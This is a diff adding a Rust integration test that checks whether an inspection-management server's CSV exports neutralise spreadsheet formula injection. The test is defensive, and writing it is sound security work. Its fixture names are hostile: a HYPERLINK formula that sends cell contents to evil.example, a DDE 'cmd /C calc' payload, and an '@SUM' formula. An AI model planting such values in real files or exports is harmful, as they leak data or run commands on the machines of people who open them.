@@ -1014,3 +1014,153 @@ async fn calendar_load_is_admin_only_checked_and_persists_across_restart() {
         "2027-01-04"
     );
 }
+
+/// Whether a CSV field would be run as a formula by Excel or WPS: it starts with one of
+/// `= + - @` (or their full-width forms), possibly after tabs, carriage returns or spaces.
+fn runs_as_formula(field: &str) -> bool {
+    field
+        .trim_start_matches(['\t', '\r', ' '])
+        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+#[tokio::test]
+async fn exports_defuse_names_that_would_run_as_formulas_in_a_spreadsheet() {
+    const TASK_NAME: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
+    const TARGET_NAME: &str = "+cmd|' /C calc'!A0";
+    const DEPARTMENT_NAME: &str = "@SUM(1+1)";
+    let server = TestServer::start().await;
+    let agency = seed_agency(&server, 3, 30).await;
+    let planner = server.login("planner").await;
+    let supervisor = server.login("supervisor").await;
+    // Every target in the task's scope gets a hostile name before the draw, which
+    // keeps the names the records are drawn under.
+    let (_, page) = planner
+        .get("/api/v1/targets?risk_class=A&per_page=100")
+        .await;
+    for (n, stored) in page["items"].as_array().unwrap().iter().enumerate() {
+        let mut target = json!({});
+        for field in [
+            "uscc",
+            "target_type",
+            "industry",
+            "region",
+            "address",
+            "legal_rep",
+            "reg_status",
+            "risk_class",
+            "flag_abnormal",
+            "flag_serious",
+            "complaints",
+        ] {
+            target[field] = stored[field].clone();
+        }
+        target["name"] = json!(format!("{TARGET_NAME}{n}"));
+        let (s, body) = planner
+            .put(&format!("/api/v1/targets/{}", stored["id"]), &target)
+            .await;
+        assert_eq!(s, StatusCode::OK, "{body}");
+    }
+    let task_id = make_task(
+        &planner,
+        agency.plan_id,
+        "-1+1",
+        json!({"count": 1, "name": TASK_NAME}),
+    )
+    .await;
+    let record = draw(&server, &planner, task_id).await.remove(0);
+    suiji_tests::publish_drawn_list(&planner, task_id).await;
+    // Department names come from the agency's own setup; no route renames one.
+    server
+        .state
+        .db
+        .write(|tx| {
+            tx.execute(
+                "UPDATE departments SET name = ?1 WHERE code = 'SCJG'",
+                [DEPARTMENT_NAME],
+            )?;
+            Ok(())
+        })
+        .await
+        .unwrap();
+
+    let id = record.id.clone();
+    let (mut a, mut b) = phones(&server, &record).await;
+    fill(
+        a.doc(&id).unwrap(),
+        "现场核查",
+        &[ResultCategory::NoProblem],
+        None,
+    );
+    sign_and_submit(&server, &mut a, &mut b, &id).await;
+    let (s, body) = supervisor
+        .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
+        .await;
+    assert_eq!(s, StatusCode::OK, "{body}");
+    let (s, outcome) = supervisor
+        .post(
+            &format!("/api/v1/tasks/{task_id}/publish-results"),
+            &json!({}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::OK, "{outcome}");
+
+    // The JSON export keeps the names exactly as they are.
+    let anonymous = Client::anonymous(&server.base);
+    let (_, exported) = anonymous
+        .get(&format!("/api/v1/public/tasks/{task_id}/results.json"))
+        .await;
+    let text = exported.to_string();
+    assert!(text.contains(TARGET_NAME), "{text}");
+
+    let csv_of = |bytes: &[u8]| -> Vec<Vec<String>> {
+        assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark");
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&bytes[3..])
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    };
+    let bytes = reqwest::get(format!(
+        "{}/api/v1/public/tasks/{task_id}/results.csv",
+        server.base
+    ))
+    .await
+    .unwrap()
+    .bytes()
+    .await
+    .unwrap();
+    let results = csv_of(&bytes);
+    let stats_response = supervisor
+        .raw(
+            reqwest::Method::GET,
+            &format!(
+                "/api/v1/stats?year={}&format=csv",
+                &suiji_server::review::china_today().to_string()[..4]
+            ),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(stats_response.status(), StatusCode::OK);
+    let stats = csv_of(&stats_response.bytes().await.unwrap());
+
+    for (export, rows, hostile) in [
+        ("results", &results, &[TASK_NAME, TARGET_NAME, "-1+1"][..]),
+        ("statistics", &stats, &[DEPARTMENT_NAME][..]),
+    ] {
+        let fields: Vec<&String> = rows.iter().flatten().collect();
+        for name in hostile {
+            assert!(
+                fields.iter().any(|f| f.starts_with(&format!("'{name}"))),
+                "{export} CSV holds {name} behind an apostrophe: {rows:?}"
+            );
+        }
+        let live: Vec<&&String> = fields.iter().filter(|f| runs_as_formula(f)).collect();
+        assert!(
+            live.is_empty(),
+            "{export} CSV cells that would run: {live:?}"
+        );
+    }
+}
